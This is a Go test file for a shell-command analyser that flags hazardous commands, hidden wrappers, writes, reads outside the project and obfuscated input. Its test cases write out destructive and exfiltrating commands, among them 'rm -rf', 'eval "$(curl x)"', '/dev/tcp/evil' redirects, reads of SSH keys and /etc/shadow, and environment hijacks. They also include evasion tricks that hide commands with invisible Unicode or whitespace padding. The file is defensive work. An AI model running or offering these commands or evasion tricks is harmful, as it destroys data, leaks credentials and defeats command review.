@@ -1,0 +1,560 @@
+package shell
+
+import (
+	"slices"
+	"strings"
+	"testing"
+)
+
+var testOpts = Options{Cwd: "/work/p", Home: "/home/u"}
+
+func texts(an *Analysis) []string {
+	var out []string
+	for _, c := range an.Commands {
+		out = append(out, c.Text)
+	}
+	return out
+}
+
+func find(an *Analysis, text string) *Command {
+	for i := range an.Commands {
+		if an.Commands[i].Text == text {
+			return &an.Commands[i]
+		}
+	}
+	return nil
+}
+
+// TestNesting checks that every kind of nesting yields its commands, in order.
+func TestNesting(t *testing.T) {
+	cases := []struct {
+		name, src string
+		want      []string
+	}{
+		{"pipeline", "git log | rm -rf x", []string{"git log", "rm -rf x"}},
+		{"and or", "a && b || c", []string{"a", "b", "c"}},
+		{"semicolon newline background", "a; b\nc & d", []string{"a", "b", "c", "d"}},
+		{"subshell", "(cd /tmp && rm x)", []string{"cd /tmp", "rm x"}},
+		{"block", "{ rm x; }", []string{"rm x"}},
+		{"command substitution", "echo $(rm x)", []string{"echo " + Dyn, "rm x"}},
+		{"backticks", "echo `id`", []string{"echo " + Dyn, "id"}},
+		{"process substitution in", "diff <(a) <(b)", []string{"diff " + Dyn + " " + Dyn, "a", "b"}},
+		{"process substitution out", "tee >(sh)", []string{"tee " + Dyn, "sh"}},
+		{"arithmetic", "echo $(( $(rm x) + 1 ))", []string{"echo " + Dyn, "rm x"}},
+		{"parameter expansion default", "echo ${x:-$(rm x)}", []string{"echo " + Dyn, "rm x"}},
+		{"assignment value", "X=$(rm x) npm -v", []string{"npm -v", "rm x"}},
+		{"assignment only", "X=$(rm x)", []string{"rm x"}},
+		{"redirect target", "echo hi > $(rm x)", []string{"echo hi", "rm x"}},
+		{"unquoted heredoc", "cat <<EOF\n$(rm x)\nEOF", []string{"cat", "rm x"}},
+		{"quoted heredoc is data", "cat <<'EOF'\n$(rm x)\nEOF", []string{"cat"}},
+		{"test clause", "[[ -n $(rm x) ]]", []string{"rm x"}},
+		{"function body", "f() { rm x; }", []string{"rm x"}},
+		{"for loop", "for f in *.log; do rm \"$f\"; done", []string{"rm " + Dyn}},
+		{"while loop", "while true; do rm x; done", []string{"true", "rm x"}},
+		{"if", "if true; then rm x; else y; fi", []string{"true", "rm x", "y"}},
+		{"case", "case $x in a) rm x;; esac", []string{"rm x"}},
+		{"time keyword", "time rm x", []string{"rm x"}},
+		{"negation", "! rm x", []string{"rm x"}},
+		{"declare", "export A=$(rm x)", []string{"export A=" + Dyn, "rm x"}},
+		{"coproc", "coproc rm x", []string{"rm x"}},
+		{"line continuation", "ls \\\n&& rm x", []string{"ls", "rm x"}},
+		{"comment is not a command", "ls # ; rm x", []string{"ls"}},
+		{"hash inside a word", "echo a#b ; rm x", []string{"echo 'a#b'", "rm x"}},
+		{"quoted operators are data", `git commit -m "a ; b && c"`, []string{"git commit -m 'a ; b && c'"}},
+	}
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			an := Analyze(c.src, testOpts)
+			if got := texts(an); !slices.Equal(got, c.want) {
+				t.Errorf("Analyze(%q) texts = %q, want %q", c.src, got, c.want)
+			}
+			if an.Unsafe != "" {
+				t.Errorf("Analyze(%q) unexpectedly unsafe: %s", c.src, an.Unsafe)
+			}
+		})
+	}
+}
+
+func TestLiteralResolution(t *testing.T) {
+	cases := []struct{ src, want string }{
+		{`\rm -rf x`, "rm|-rf|x"},
+		{`r''m x`, "rm|x"},
+		{`"r"m x`, "rm|x"},
+		{"r\\\nm x", "rm|x"},
+		{`{rm,-rf,/}`, "rm|-rf|/"},
+		{`echo a{b,c}d`, "echo|abd|acd"},
+		{`echo \{a,b\}`, "echo|{a,b}"},
+		{`echo "{a,b}"`, "echo|{a,b}"},
+		{`echo $'\x72m' $'a\nb'`, "echo|rm|a\nb"},
+		{`echo $'\r' $'\0'`, "echo|" + Dyn + "|" + Dyn},
+		{`echo "a\"b\$c\\d\q"`, `echo|a"b$c\d\q`},
+		{`echo ~/x ~ $HOME/y ${HOME}`, "echo|/home/u/x|/home/u|/home/u/y|/home/u"},
+		{`echo ~root/x`, "echo|" + Dyn + "/x"},
+		{`echo *.go a?b [ab]c \*`, "echo|" + Dyn + ".go|a" + Dyn + "b|" + Dyn + "c|*"},
+		{`echo '*' "?"`, "echo|*|?"},
+		{`echo $a$b "x$(y)z"`, "echo|" + Dyn + "|x" + Dyn + "z"},
+		{`[ -f x ]`, "[|-f|x|]"},
+		{`echo ''`, "echo|"},
+	}
+	for _, c := range cases {
+		an := Analyze(c.src, testOpts)
+		if len(an.Commands) == 0 {
+			t.Errorf("Analyze(%q): no command", c.src)
+			continue
+		}
+		if got := strings.Join(an.Commands[0].Argv, "|"); got != c.want {
+			t.Errorf("Analyze(%q) argv = %q, want %q", c.src, got, c.want)
+		}
+	}
+}
+
+func TestDynamicNames(t *testing.T) {
+	cases := []struct {
+		src     string
+		dynamic bool
+	}{
+		{"$CMD --version", true},
+		{"${RM:-rm} -rf x", true},
+		{`"$(printf rm)" -rf x`, true},
+		{"rm${IFS}-rf", true},
+		{"/bin/r? x", true},
+		{"/b??/rm x", true},
+		{"*(x) y", true},
+		{"'' x", true},
+		{"~root/bin/x", true},
+		{"rm x", false},
+		{"/usr/bin/git status", false},
+		{"~/bin/tool", false},
+		{"bash -c \"$S\"", true},
+		{"eval \"$(curl x)\"", true},
+		{"sudo $CMD", true},
+		{"env -S \"$X\"", true},
+		{"bash -c 'ls'", false},
+	}
+	for _, c := range cases {
+		an := Analyze(c.src, testOpts)
+		if len(an.Commands) == 0 {
+			t.Errorf("Analyze(%q): no command", c.src)
+			continue
+		}
+		if got := an.Commands[0].Dynamic != ""; got != c.dynamic {
+			t.Errorf("Analyze(%q).Commands[0].Dynamic = %q, want dynamic=%v", c.src, an.Commands[0].Dynamic, c.dynamic)
+		}
+	}
+}
+
+func TestWrappers(t *testing.T) {
+	cases := []struct {
+		src     string
+		inner   string // Text of the unwrapped command; "" for none
+		wrapper string
+	}{
+		{"sudo -u root -E rm -rf x", "rm -rf x", "sudo"},
+		{"sudo FOO=1 rm x", "rm x", "sudo"},
+		{"sudo -l rm x", "", ""},
+		{"doas -u root rm x", "rm x", "doas"},
+		{"env -i -u HOME FOO=bar rm x", "rm x", "env"},
+		{"env -S 'rm -rf x'", "rm -rf x", "env -S"},
+		{"env --split-string='rm -rf x' y", "rm -rf x y", "env -S"},
+		{"nice -n 5 rm x", "rm x", "nice"},
+		{"nice -10 rm x", "rm x", "nice"},
+		{"nohup rm x", "rm x", "nohup"},
+		{"timeout -s KILL -k 5 30 rm x", "rm x", "timeout"},
+		{"timeout --signal=KILL 30s rm x", "rm x", "timeout"},
+		{"/usr/bin/time -p rm x", "rm x", "time"},
+		{"command rm x", "rm x", "command"},
+		{"command -v rm", "", ""},
+		{"builtin eval 'rm x'", "rm x", "eval"},
+		{"exec -a name rm x", "rm x", "exec"},
+		{"xargs -n 1 -I {} rm {}", "rm '{}'", "xargs"},
+		{"stdbuf -oL rm x", "rm x", "stdbuf"},
+		{"watch -n1 rm x", "rm x", "watch"},
+		{"watch -x rm x", "rm x", "watch"},
+		{"ionice -c 3 rm x", "rm x", "ionice"},
+		{"taskset 0x1 rm x", "rm x", "taskset"},
+		{"setsid -f rm x", "rm x", "setsid"},
+		{"flock /tmp/l rm x", "rm x", "flock"},
+		{"flock /tmp/l -c 'rm x'", "rm x", "flock -c"},
+		{"chroot /srv rm x", "rm x", "chroot"},
+		{"unbuffer rm x", "rm x", "unbuffer"},
+		{"busybox rm x", "rm x", "busybox"},
+		{"find . -exec rm {} \\;", "rm '{}'", "find -exec"},
+		{"find . -execdir rm {} +", "rm '{}'", "find -execdir"},
+		{"find . -ok rm {} \\;", "rm '{}'", "find -ok"},
+		{"bash -c 'rm x'", "rm x", "bash -c"},
+		{"sh -ec 'rm x'", "rm x", "sh -c"},
+		{"bash -o pipefail -c 'rm x' name arg", "rm x", "bash -c"},
+		{"zsh -c 'rm x'", "rm x", "zsh -c"},
+		{"eval rm x", "rm x", "eval"},
+		{"su -c 'rm x' root", "rm x", "su -c"},
+		{"bash script.sh", "", ""},
+	}
+	for _, c := range cases {
+		an := Analyze(c.src, testOpts)
+		if an.Unsafe != "" {
+			t.Errorf("Analyze(%q) unsafe: %s", c.src, an.Unsafe)
+		}
+		if c.inner == "" {
+			if len(an.Commands) != 1 {
+				t.Errorf("Analyze(%q) = %q, want only the command itself", c.src, texts(an))
+			}
+			continue
+		}
+		if len(an.Commands) < 2 {
+			t.Errorf("Analyze(%q) = %q, want a wrapper and %q", c.src, texts(an), c.inner)
+			continue
+		}
+		if w := an.Commands[0]; w.Always != "" || w.Wrapper != "" {
+			t.Errorf("Analyze(%q) wrapper %q: Always=%q Wrapper=%q, want none", c.src, w.Text, w.Always, w.Wrapper)
+		}
+		in := an.Commands[len(an.Commands)-1]
+		if in.Text != c.inner || in.Wrapper != c.wrapper {
+			t.Errorf("Analyze(%q) inner = %q (wrapper %q), want %q (wrapper %q)", c.src, in.Text, in.Wrapper, c.inner, c.wrapper)
+		}
+	}
+}
+
+func TestNestedWrappers(t *testing.T) {
+	an := Analyze(`sudo timeout 5 bash -c "env -S 'rm -rf x'"`, testOpts)
+	want := []string{`sudo timeout 5 bash -c 'env -S '\''rm -rf x'\'''`, `timeout 5 bash -c 'env -S '\''rm -rf x'\'''`,
+		`bash -c 'env -S '\''rm -rf x'\'''`, `env -S 'rm -rf x'`, "rm -rf x"}
+	if got := texts(an); !slices.Equal(got, want) {
+		t.Errorf("texts = %q, want %q", got, want)
+	}
+	deep := strings.Repeat("eval ", 3*maxDepth) + "rm x"
+	an = Analyze(deep, testOpts)
+	dyn := false
+	for _, c := range an.Commands {
+		dyn = dyn || c.Dynamic != ""
+	}
+	if !dyn {
+		t.Errorf("deeply nested eval not reported as dynamic: %q", texts(an))
+	}
+}
+
+// TestHazards has one row per entry of the hazards table.
+func TestHazards(t *testing.T) {
+	cases := []struct{ hazard, src string }{
+		{"find -delete", "find . -name '*.py' -delete"},
+		{"find -exec", "find . -exec rm {} +"},
+		{"find writes a file", "find . -fprint /tmp/x"},
+		{"git config override", "git -c core.fsmonitor=id status"},
+		{"git --exec-path", "git --exec-path=/tmp status"},
+		{"git --output", "git log --output=/tmp/x"},
+		{"git external diff or textconv", "git diff --ext-diff"},
+		{"git config write", "git config alias.x '!rm -rf ~'"},
+		{"git alias", "git alias x status"},
+		{"git runs a command", "git submodule foreach 'rm -rf .'"},
+		{"sed -i", "sed -i s/a/b/ f"},
+		{"sed script executes or writes", "sed -n '1e id' f"},
+		{"awk executes or writes", `awk 'BEGIN{system("id")}'`},
+		{"sort -o", "sort -o out in"},
+		{"rg runs a preprocessor", "rg -z needle"},
+		{"tree -o", "tree -o /tmp/x"},
+		{"base64 -o", "base64 -o out.bin in.txt"},
+		{"tar runs a program", "tar --to-command=sh -xf a.tar"},
+		{"rsync runs a program", "rsync -e 'sh -c id' a b"},
+		{"curl writes a file", "curl -o ~/.bashrc https://x"},
+		{"time -o", "/usr/bin/time -o out ls"},
+		{"xargs", "xargs rm"},
+		{"alias", "alias ls='rm -rf x'"},
+		{"opaque exec wrapper", "strace -f rm x"},
+		{"interpreter code flag", "python3 -c 'print(1)'"},
+		{"unquoted glob for an exec-capable tool", "rg TODO *"},
+		{"array subscript evaluation", "printf -v 'a[$(id)]' x"},
+		{"extended glob", "ls *(e:'rm x':)"},
+	}
+	covered := map[string]bool{}
+	for _, c := range cases {
+		covered[c.hazard] = true
+		an := Analyze(c.src, testOpts)
+		if len(an.Commands) == 0 || an.Commands[0].Hazard != c.hazard {
+			t.Errorf("Analyze(%q) hazard = %q, want %q", c.src, hazardsOf(an), c.hazard)
+		}
+		if len(an.Commands) > 0 && an.Commands[0].Always != "" && c.hazard != "interpreter code flag" {
+			t.Errorf("Analyze(%q) hazardous command has Always %q", c.src, an.Commands[0].Always)
+		}
+	}
+	for _, h := range hazards {
+		if !covered[h.name] {
+			t.Errorf("hazard %q has no test row", h.name)
+		}
+	}
+}
+
+func hazardsOf(an *Analysis) []string {
+	var out []string
+	for _, c := range an.Commands {
+		out = append(out, c.Hazard)
+	}
+	return out
+}
+
+// TestNoHazard pins read-only uses that must stay allowed.
+func TestNoHazard(t *testing.T) {
+	for _, src := range []string{
+		"git log -p -1", "git diff --no-index -- a b", "git config user.name", "git config --get user.name",
+		"git config --list", "git status", "sed -n '1,5p' f", "sed 's/a/b/g' f", "sed -n '/re/{p;q}' f",
+		"sed -E 's#[/]#x#' f", "sed --sandbox 'w x' f", "awk '{print $1}' f", "awk -F: '$3 > 100 {print $1}' f",
+		"awk '{ if (a || b) print (x > y) }' f", "sort -u f", "rg -i needle", "find . -name '*.go'",
+		"tar -xzf a.tgz", "rsync -av a b", "curl -s https://x", "python3 script.py", "node app.js",
+		"perl script.pl -e", "FOO=1 npm test", "GIT_AUTHOR_NAME=x git commit -m y", "cat *.txt",
+		"python -m pytest -c conf",
+	} {
+		an := Analyze(src, testOpts)
+		for _, c := range an.Commands {
+			if c.Hazard != "" {
+				t.Errorf("Analyze(%q): %q has hazard %q", src, c.Text, c.Hazard)
+			}
+		}
+	}
+}
+
+func TestDangerousEnv(t *testing.T) {
+	for _, src := range []string{
+		"LD_PRELOAD=/tmp/x.so ls", "DYLD_INSERT_LIBRARIES=x ls", "PATH=/tmp ls", "GIT_SSH_COMMAND=id git fetch",
+		"GIT_EXTERNAL_DIFF=x git diff", "PAGER=id git log", "EDITOR=id git commit", "BASH_ENV=x bash s.sh",
+		"NODE_OPTIONS='--require x' node a", "PYTHONSTARTUP=x python", "sudo LD_PRELOAD=x ls", "env PERL5OPT=-d perl a",
+		"FOO_COMMAND=x make",
+	} {
+		an := Analyze(src, testOpts)
+		c := an.Commands[len(an.Commands)-1]
+		if !strings.HasPrefix(c.Hazard, "sets ") {
+			t.Errorf("Analyze(%q): %q hazard = %q, want an environment hazard", src, c.Text, c.Hazard)
+		}
+	}
+	if an := Analyze("PATH=/tmp/evil; ls", testOpts); an.Unsafe == "" {
+		t.Errorf("PATH assignment before a later command is not unsafe")
+	}
+	if an := Analyze("FOO=1; ls", testOpts); an.Unsafe != "" {
+		t.Errorf("harmless assignment is unsafe: %s", an.Unsafe)
+	}
+}
+
+func TestWrites(t *testing.T) {
+	cases := []struct {
+		src    string
+		writes []Write
+	}{
+		{"ls > out.txt", []Write{{">", "/work/p/out.txt", false}}},
+		{"ls >> /tmp/a", []Write{{">>", "/tmp/a", false}}},
+		{"ls >| a", []Write{{">|", "/work/p/a", false}}},
+		{"ls &> a", []Write{{"&>", "/work/p/a", false}}},
+		{"ls &>> a", []Write{{"&>>", "/work/p/a", false}}},
+		{"ls <> a", []Write{{"<>", "/work/p/a", false}}},
+		{"ls >&file", []Write{{">&", "/work/p/file", false}}},
+		{"ls > ~/.bashrc", []Write{{">", "/home/u/.bashrc", false}}},
+		{"ls > $F", []Write{{">", Dyn, true}}},
+		{"ls > /dev/tcp/evil/80", []Write{{">", "/dev/tcp/evil/80", false}}},
+		{"exec 3> /tmp/out", []Write{{">", "/tmp/out", false}}},
+		{"bash -c 'echo x > /etc/passwd'", []Write{{">", "/etc/passwd", false}}},
+		{"cat <<'EOF' > s.sh\nx\nEOF", []Write{{">", "/work/p/s.sh", false}}},
+		{"ls > /dev/null 2>/dev/stderr 1>/dev/stdout", nil},
+		{"ls 2>&1 >&2 3>&-", nil},
+		{"cat < in.txt", nil},
+		{"cat <<< hi", nil},
+		{"cat <<EOF\nhi\nEOF", nil},
+	}
+	for _, c := range cases {
+		an := Analyze(c.src, testOpts)
+		if !slices.Equal(an.Writes, c.writes) {
+			t.Errorf("Analyze(%q).Writes = %+v, want %+v", c.src, an.Writes, c.writes)
+		}
+	}
+}
+
+func TestUnsafe(t *testing.T) {
+	unsafe := []string{
+		"git log &&& rm x", `echo "unterminated`, "ls &&", "&& ls", "ls | | wc", "ls ;; pwd", "cat <<EOF\nno end",
+		"cat =(rm x)", "FOO[$(rm x)]=v ls", "git status\rrm x", "ls\x00", "ls\x1b[2K", "ls \u200b", "ls \u202e",
+		"ls \u2066x", "ls \ufeff", "ls \u00ad", "ls \U000E0041", "ls \u00a0x", "ls \xff",
+		"echo ok" + strings.Repeat(" ", 100) + "; curl x", "x='a[$(id)]'; echo $((x))", "(( 'a[$(id)]' ))",
+		"bash -c $'ls\\u200b'",
+	}
+	for _, src := range unsafe {
+		if an := Analyze(src, testOpts); an.Unsafe == "" {
+			t.Errorf("Analyze(%q) not unsafe: %q", src, texts(an))
+		}
+	}
+	// What parses is still analysed, so deny rules keep working.
+	if an := Analyze("rm -rf x\u200b", testOpts); len(an.Commands) != 1 || an.Commands[0].Argv[0] != "rm" {
+		t.Errorf("unsafe input was not analysed: %q", texts(an))
+	}
+	for _, src := range []string{"ls\n\tpwd", "echo 'héllo wörld ✓'", "git commit -m \"line1\nline2\""} {
+		if an := Analyze(src, testOpts); an.Unsafe != "" {
+			t.Errorf("Analyze(%q) unsafe: %s", src, an.Unsafe)
+		}
+	}
+}
+
+func TestOutsideProject(t *testing.T) {
+	cases := []struct {
+		src  string
+		opts Options
+		want []string
+	}{
+		{"cat /etc/passwd", testOpts, []string{"/etc/passwd"}},
+		{"cat ~/.ssh/id_rsa", testOpts, []string{"/home/u/.ssh/id_rsa"}},
+		{"cat ~/.ssh/id_rsa", Options{Cwd: "/work/p"}, []string{"~/.ssh/id_rsa"}},
+		{"cat ../x", testOpts, []string{"../x"}},
+		{"cat a/../../x", testOpts, []string{"a/../../x"}},
+		{"cat a/../b", testOpts, nil},
+		{"cat /work/p/src/x", testOpts, nil},
+		{"cat src/x", testOpts, nil},
+		{"git diff --output=/tmp/x", testOpts, []string{"/tmp/x"}},
+		{"ls > /tmp/out", testOpts, []string{"/tmp/out"}},
+		{"ls 2>/dev/null", testOpts, nil},
+		{"curl https://example.com/../x", testOpts, nil},
+		{"sed -n '/re/p' f", testOpts, nil},
+		{"cat /etc/x", Options{}, nil},
+		{"cat /home/u/x", Options{Home: "/home/u"}, []string{"/home/u/x"}},
+		{"cat ../x", Options{}, []string{"../x"}},
+		{"sudo cat /etc/shadow", testOpts, []string{"/etc/shadow"}},
+	}
+	for _, c := range cases {
+		an := Analyze(c.src, c.opts)
+		if !slices.Equal(an.OutsidePaths, c.want) || an.OutsideProject != (len(c.want) > 0) {
+			t.Errorf("Analyze(%q, %+v): outside=%v %q, want %q", c.src, c.opts, an.OutsideProject, an.OutsidePaths, c.want)
+		}
+	}
+}
+
+func TestQuoteAndText(t *testing.T) {
+	cases := []struct{ src, text string }{
+		{`git commit -m "fix: a ; b"`, `git commit -m 'fix: a ; b'`},
+		{`npm 'run build'`, `npm 'run build'`},
+		{`'git status'`, `'git status'`},
+		{`echo "it's"`, `echo 'it'\''s'`},
+		{`echo ''`, `echo ''`},
+		{`ls -la ./a_b/c-d.e@f%g+h=i:j,k`, `ls -la ./a_b/c-d.e@f%g+h=i:j,k`},
+		{`echo $X"a b"`, "echo '" + Dyn + "a b'"},
+		{`echo '*'`, `echo '*'`},
+		{`cat < in.txt`, `cat`},
+		{`FOO=1 rm x`, `rm x`},
+	}
+	for _, c := range cases {
+		an := Analyze(c.src, testOpts)
+		if len(an.Commands) == 0 || an.Commands[0].Text != c.text {
+			t.Errorf("Analyze(%q) text = %q, want %q", c.src, texts(an), c.text)
+		}
+	}
+	if q := Quote(""); q != "''" {
+		t.Errorf("Quote(\"\") = %q", q)
+	}
+}
+
+func TestAltTexts(t *testing.T) {
+	cases := []struct {
+		src  string
+		want []string
+	}{
+		{"/bin/rm -rf x", []string{"rm -rf x"}},
+		{"git -C /repo push origin main", []string{"git push origin main"}},
+		{"git -c a=b --no-pager log", []string{"git log"}},
+		{"rm -fr x", []string{"rm -rf x"}},
+		{"rm --recursive --force x", []string{"rm -rf x"}},
+		{"rm -R -f -v x", []string{"rm -rfv x"}},
+		{"/usr/bin/git -C r push", []string{"git -C r push", "git push"}},
+		{"/b??/rm x", []string{"rm x"}},
+		{"rm -rf x", nil},
+		{"git status", nil},
+	}
+	for _, c := range cases {
+		an := Analyze(c.src, testOpts)
+		if len(an.Commands) == 0 || !slices.Equal(an.Commands[0].AltTexts, c.want) {
+			t.Errorf("Analyze(%q) alts = %q, want %q", c.src, an.Commands[0].AltTexts, c.want)
+		}
+	}
+}
+
+func TestAlwaysPattern(t *testing.T) {
+	cases := []struct{ src, want string }{
+		{"git push origin main", "git push *"},
+		{"git log", "git log *"},
+		{"git stash list", "git stash list *"},
+		{"npm run build", "npm run build"},
+		{"npm run build --watch", "npm run build *"},
+		{"npm test", "npm test *"},
+		{"cat README.md", "cat *"},
+		{"sed -n 1,5p f", "sed -n *"},
+		{"sed s/a/b/ f", "sed s/a/b/ f"},
+		{"find . -name x", "find *"},
+		{"gh pr view 123", "gh pr view *"},
+		{"docker compose up -d", "docker compose up *"},
+		{"mytool deploy prod", "mytool deploy *"},
+		{"mytool ./file", "mytool *"},
+		{"npm -g install x", "npm -g install x"},
+		{`npm run "build:{a,b}"`, `npm run 'build:\{a,b\}'`},
+		{"python -c 'print(1)'", `python -c 'print(1)'`},
+		{"python3 script.py", "python3 script.py"},
+		{"/usr/bin/git status", "/usr/bin/git status"},
+		{"./cat README.md", "./cat README.md"},
+		{"echo $X", ""},
+		{"for d in */; do echo \"$d\"; done", ""},
+		{"sudo -l", ""},
+		{"exec 3> x", ""},
+		{"find . -delete", ""},
+		{"eval x", ""},
+	}
+	for _, c := range cases {
+		an := Analyze(c.src, testOpts)
+		if len(an.Commands) == 0 || an.Commands[0].Always != c.want {
+			var got []string
+			for _, c := range an.Commands {
+				got = append(got, c.Always)
+			}
+			t.Errorf("Analyze(%q) Always = %q, want %q", c.src, got, c.want)
+		}
+	}
+}
+
+func TestAnalyzeNeverPanics(t *testing.T) {
+	for _, src := range []string{"", " ", "\n", ";", "(", "$(", "${", "`", "<<", "a=(", "case", "[[", "((", "eval", "bash -c", "find -exec", "env -S", "sudo --"} {
+		_ = Analyze(src, Options{})
+	}
+}
+
+// FuzzAnalyze checks that Analyze never panics and keeps its invariants.
+func FuzzAnalyze(f *testing.F) {
+	for _, s := range []string{
+		"git add -A && git commit -m \"x\" && git push", "sudo rm -rf /", "bash -c 'eval \"$X\"'",
+		"find . -exec sh -c 'rm {}' \\;", "echo ${x:-$(rm)} > ~/f", "{a,b}{c,d} $'\\x41' *.go",
+		"cat <<EOF\n$(x)\nEOF", "env -S 'a b' c", "x=1 y=$(z) w", "sed -n '1e id'", "awk '{print > \"f\"}'",
+	} {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, src string) {
+		an := Analyze(src, Options{Cwd: "/p", Home: "/h"})
+		for _, c := range an.Commands {
+			if len(c.Argv) == 0 {
+				t.Fatalf("command without argv in %q", src)
+			}
+			if strings.Contains(c.Argv[0], Dyn) && c.Dynamic == "" {
+				t.Fatalf("name %q not static but not Dynamic in %q", c.Argv[0], src)
+			}
+			anyDyn := false
+			for _, a := range c.Argv {
+				anyDyn = anyDyn || strings.Contains(a, Dyn)
+			}
+			if strings.Contains(c.Text, Dyn) && !anyDyn {
+				t.Fatalf("Text %q has Dyn but argv does not, in %q", c.Text, src)
+			}
+			if anyDyn && c.Always != "" {
+				t.Fatalf("Always %q for a command with run-time parts, in %q", c.Always, src)
+			}
+			if c.Text != joinQuoted(c.Argv) {
+				t.Fatalf("Text %q is not the quoted argv", c.Text)
+			}
+		}
+		if strings.ContainsRune(src, 0) && an.Unsafe == "" {
+			t.Fatalf("NUL input not unsafe: %q", src)
+		}
+	})
+}
+
+func BenchmarkAnalyze(b *testing.B) {
+	b.ReportAllocs()
+	for b.Loop() {
+		Analyze(`git add -A && git commit -m "x" && git push`, testOpts)
+	}
+}
